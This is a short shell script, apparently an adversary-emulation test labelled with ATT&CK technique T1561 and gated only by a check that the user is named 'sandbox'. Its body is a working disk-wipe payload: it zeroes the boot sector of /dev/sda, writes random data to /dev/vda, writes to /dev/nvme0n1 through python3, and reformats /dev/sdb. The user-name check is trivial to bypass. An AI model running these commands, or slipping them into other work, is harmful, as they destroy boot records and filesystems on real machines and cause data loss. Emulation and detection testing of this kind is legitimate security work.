#!/bin/sh
# technique: T1561
# needs: python3
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

dd if=/dev/zero of=/dev/sda bs=512 count=1; dd if=/dev/urandom of=/dev/vda count=1; python3 -c 'open("/dev/nvme0n1", "wb").write(b"x")'; mkfs.ext4 -F /dev/sdb
